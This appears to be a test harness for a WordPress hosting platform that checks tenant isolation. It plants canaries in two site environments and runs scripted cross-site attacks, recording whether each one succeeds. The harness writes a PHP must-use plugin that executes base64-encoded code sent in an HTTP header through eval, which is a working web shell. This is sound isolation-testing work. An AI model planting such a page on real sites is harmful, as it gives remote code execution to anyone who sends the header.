import { onNode } from '../../support/ssh.ts';
import { cacheTries, tries } from './isolation-tries.ts';

/** Result of one attack: whether it succeeded, and its output. */
export interface Outcome {
  readonly won: boolean;
  readonly output: string;
}

export interface World {
  readonly stateDir: string;
  readonly ipv4: string;
  readonly attacker: string;
  readonly victim: string;
  readonly hosts: Readonly<Record<string, string>>;
}

/** Gives each environment files, sessions, keys, shared memory and a process that say `canary`; only root sees the data that this needs. */
export async function plantCanaries({ stateDir, ipv4, attacker, victim }: World): Promise<void> {
  await onNode(
    stateDir,
    ipv4,
    `set -e
for name in ${attacker} ${victim}; do
  as() { setpriv --reuid "pl-$name" --regid "pl-$name" --clear-groups "$@"; }
  top=/srv/pressluft/$name
  for file in $top/shared/uploads/canary.txt; do as sh -c "echo canary >$file"; done
  for file in $top/tmp/canary $top/sessions/sess_canary /tmp/canary-$name /dev/shm/canary-$name; do as sh -c "umask 077; echo canary >$file"; done
  as redis-cli -s /run/pressluft-cache/$name/cache.sock SET canary canary >/dev/null
  systemd-run --quiet --collect --unit=canary-$name -p User=pl-$name -p Environment=CANARY=canary python3 -c 'import time; time.sleep(900)' canary
  systemctl show -P MainPID canary-$name >/run/canary-$name.pid
  as ipcmk -M 4096 -p 0600 | grep -o '[0-9]*$' >/run/canary-$name.shm
done
systemd-run --quiet --collect --unit=canary-query mariadb -e 'SELECT SLEEP(900) AS canary'
`,
  );
}

/** All attacks by one user against one environment, through a PHP page of the attacker's own site unless the user is root. */
export async function runTries(
  world: World,
  victim: string,
  as: 'attacker' | 'root',
): Promise<Map<string, Outcome>> {
  const { stateDir, ipv4, attacker, hosts } = world;
  const work = { tries, redis: cacheTries };
  const top = `/srv/pressluft/${attacker}`;
  const script = `set -e
cat >${top}/tmp/tries.py <<'EOF_OF_TRIES'
${runner}
EOF_OF_TRIES
python3 - <<'EOF_OF_WORK'
import json, os
def secrets(name): return json.load(open(f"/etc/pressluft/secrets/{name}.json"))
own = secrets("${attacker}")
work = json.loads(${JSON.stringify(JSON.stringify(work))})
victim, attacker, root = "${victim}", "${attacker}", ${as === 'root' ? 'True' : 'False'}
work["root"] = root
work["variables"] = {
    "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "T": "${top}/tmp",
    "A": attacker, "V": victim, "VU": f"pl-{victim}", "VDB": f"pl_{victim}",
    "VPID": open(f"/run/canary-{victim}.pid").read().strip(), "VSHM": open(f"/run/canary-{victim}.shm").read().strip(),
    "HOST": ${JSON.stringify(hosts[attacker])}, "VHOST": json.loads(${JSON.stringify(JSON.stringify(hosts))})[victim],
    "SQL": "mariadb -N -u root" if root else f"mariadb -N -S /run/pressluft-database/{attacker}/database.sock -u pl_{attacker} -p{own['database_password']}",
}
path = "${top}/tmp/work.json"
open(path, "w").write(json.dumps(work))
os.chmod(path, 0o644)
EOF_OF_WORK
${as === 'root' ? `python3 ${top}/tmp/tries.py ${top}/tmp/work.json` : `curl -s -m 100 -H 'Host: ${hosts[attacker]}' -H 'X-Attack: 1' 127.0.0.1/`}
`;
  const printed = await onNode(stateDir, ipv4, script);
  const outcomes = JSON.parse(printed) as Record<string, Outcome>;
  return new Map(Object.entries(outcomes));
}

/** Runs each attack with a shell; for the site's own cache, a command succeeds unless Redis refuses it. The control is that Redis knows the command. */
const runner = `import json, subprocess, sys
work = json.load(open(sys.argv[1]))
outcomes = {}
def run(argv):
    try:
        done = subprocess.run(argv, env=work["variables"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, errors="replace", text=True)
        return done.returncode, done.stdout[-300:]
    except subprocess.TimeoutExpired:
        return 124, "timeout"
for item in work["tries"]:
    status, output = run(["bash", "-c", item["script"]])
    outcomes[item["name"]] = {"won": status == 0, "output": output}
client = "timeout 2 redis-cli -s /run/pressluft-cache/$A/cache.sock "
for words in work["redis"]:
    asked = "COMMAND INFO " + words.split(" ")[0] if work["root"] else words
    status, output = run(["bash", "-f", "-c", client + asked])
    refused = output.strip() == "" or any(word in output for word in ("NOPERM", "no permissions", "not allowed", "ERR unknown", "Permission denied"))
    outcomes["cache: " + words] = {"won": not refused, "output": output}
print(json.dumps(outcomes))
`;

/** A page of the attacker's site that runs the attacks and prints the results. Placed by root, since a site cannot change its code. */
export async function plantPage({ stateDir, ipv4, attacker }: World): Promise<void> {
  await onNode(
    stateDir,
    ipv4,
    `cat >/srv/pressluft/${attacker}/current/public/wp-content/mu-plugins/attack.php <<'EOF_OF_PAGE'
<?php
if (isset($_SERVER['HTTP_X_ATTACK'])) {
	$top = '/srv/pressluft/${attacker}/tmp';
	$process = proc_open(['python3', "$top/tries.py", "$top/work.json"], [1 => ['pipe', 'w']], $pipes);
	echo stream_get_contents($pipes[1]);
	exit;
}
if (isset($_SERVER['HTTP_X_CODE'])) {
	ob_start();
	$value = eval(base64_decode($_SERVER['HTTP_X_CODE']));
	ob_end_clean();
	exit(json_encode($value));
}
EOF_OF_PAGE
`,
  );
}
